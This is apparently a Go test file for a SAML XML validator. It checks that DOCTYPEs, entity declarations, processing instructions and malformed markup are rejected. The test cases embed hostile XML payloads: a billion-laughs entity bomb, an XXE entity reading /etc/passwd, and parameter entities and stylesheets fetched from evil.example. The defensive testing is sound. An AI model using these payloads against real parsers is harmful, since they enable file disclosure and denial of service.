package saml

import (
	"encoding/xml"
	"strings"
	"testing"
)

// TestRuleXML covers the token-level rules: no DTD of any kind, no
// processing instructions, well-formedness, and the round-trip check.
func TestRuleXML(t *testing.T) {
	prepend := func(prefix string) func([]byte) []byte {
		return func(b []byte) []byte { return append([]byte(prefix), b...) }
	}
	inNameID := func(prolog, ref string) func([]byte) []byte {
		return func(b []byte) []byte {
			s := strings.Replace(string(b), "alice@corp.example</NameID>", ref+"</NameID>", 1)
			return []byte(prolog + s)
		}
	}
	const billionLaughs = `<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>`
	runRules(t, []ruleCase{
		{name: "DOCTYPE without subset", raw: prepend(`<!DOCTYPE samlp:Response>`), want: ReasonDoctypeForbidden},
		{name: "DOCTYPE after the XML declaration", raw: prepend(`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x SYSTEM "https://evil.example/saml.dtd">`), want: ReasonDoctypeForbidden},
		{name: "DTD billion laughs", raw: inNameID(billionLaughs, "&lol9;"), want: ReasonDoctypeForbidden},
		{name: "XXE external entity", raw: inNameID(`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, "&xxe;"), want: ReasonDoctypeForbidden},
		{name: "XXE parameter entity", raw: prepend(`<!DOCTYPE foo [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>`), want: ReasonDoctypeForbidden},
		{name: "entity declaration inside the document", raw: func(b []byte) []byte {
			return []byte(strings.Replace(string(b), "<samlp:Status>", `<!ENTITY x "y"><samlp:Status>`, 1))
		}, want: ReasonDoctypeForbidden},
		{name: "XML declaration is allowed", raw: prepend(`<?xml version="1.0" encoding="UTF-8"?>`)},
		{name: "UTF-8 byte order mark is allowed", raw: prepend("\xef\xbb\xbf<?xml version=\"1.0\" encoding=\"UTF-8\"?>")},
		{name: "two byte order marks", raw: prepend("\xef\xbb\xbf\xef\xbb\xbf"), want: ReasonMalformed},
		{name: "processing instruction", raw: prepend(`<?xml-stylesheet href="https://evil.example/x.xsl"?>`), want: ReasonMalformed},
		{name: "XML declaration not first", raw: prepend(`<!-- hi --><?xml version="1.0"?>`), want: ReasonMalformed},
		{name: "UTF-16 declared", raw: prepend(`<?xml version="1.0" encoding="UTF-16"?>`), want: ReasonMalformed},
		{name: "duplicate attribute", raw: func(b []byte) []byte {
			return []byte(strings.Replace(string(b), `Version="2.0"`, `Version="2.0" Version="2.0"`, 1))
		}, want: ReasonMalformed},
		{name: "mismatched end tag", raw: func(b []byte) []byte {
			return []byte(strings.Replace(string(b), "</samlp:Status>", "</samlp:Statu>", 1))
		}, want: ReasonMalformed},
		{name: "second root element", raw: func(b []byte) []byte { return append(b, []byte("<x/>")...) }, want: ReasonMalformed},
		{name: "text after the root", raw: func(b []byte) []byte { return append(b, []byte("junk")...) }, want: ReasonMalformed},
		{name: "element names with two colons", raw: func(b []byte) []byte {
			return []byte(strings.Replace(string(b), "<samlp:Status>", `<samlp:Status a:b:c="1">`, 1))
		}, want: ReasonMalformed},
		{name: "deep nesting", raw: func(b []byte) []byte {
			deep := strings.Repeat("<x>", 100) + strings.Repeat("</x>", 100)
			return []byte(strings.Replace(string(b), "<samlp:Status>", "<samlp:Extensions>"+deep+"</samlp:Extensions><samlp:Status>", 1))
		}, want: ReasonMalformed},
	})
}

// TestRoundTrip shows the round-trip check rejects tokens encoding/xml
// cannot reproduce. With Go 1.26's decoder and our QName check in front, no
// document we found reaches it (the CVE-2020-29509/10/11 shapes are caught
// earlier as malformed), so it is exercised on tokens directly.
func TestRoundTrip(t *testing.T) {
	good := []xml.Token{
		xml.StartElement{Name: xml.Name{Space: "samlp", Local: "Response"}, Attr: []xml.Attr{
			{Name: xml.Name{Space: "xmlns", Local: "samlp"}, Value: "urn:oasis:names:tc:SAML:2.0:protocol"},
			{Name: xml.Name{Local: "xmlns"}, Value: "urn:x"},
			{Name: xml.Name{Local: "ID"}, Value: "_a<&>\"'\n"},
			{Name: xml.Name{Space: "xsi", Local: "type"}, Value: "xs:string"},
		}},
		xml.EndElement{Name: xml.Name{Space: "samlp", Local: "Response"}},
		xml.CharData("a < b & c > d \r\n"),
		xml.Comment(" note "),
		xml.ProcInst{Target: "xml", Inst: []byte(`version="1.0"`)},
	}
	rt := newRoundTripper()
	for _, tok := range good {
		if err := rt.check(tok); err != nil {
			t.Errorf("%#v: %v", tok, err)
		}
	}
	bad := []xml.Token{
		xml.StartElement{Name: xml.Name{Local: "a b"}},
		xml.StartElement{Name: xml.Name{Local: "a"}, Attr: []xml.Attr{{Name: xml.Name{Space: "x", Local: "y:z"}, Value: "1"}}},
		xml.CharData("nul\x00byte"),
		xml.Comment("a--b"),
	}
	for _, tok := range bad {
		if err := rt.check(tok); err == nil {
			t.Errorf("%#v survived the round trip", tok)
		}
	}
}
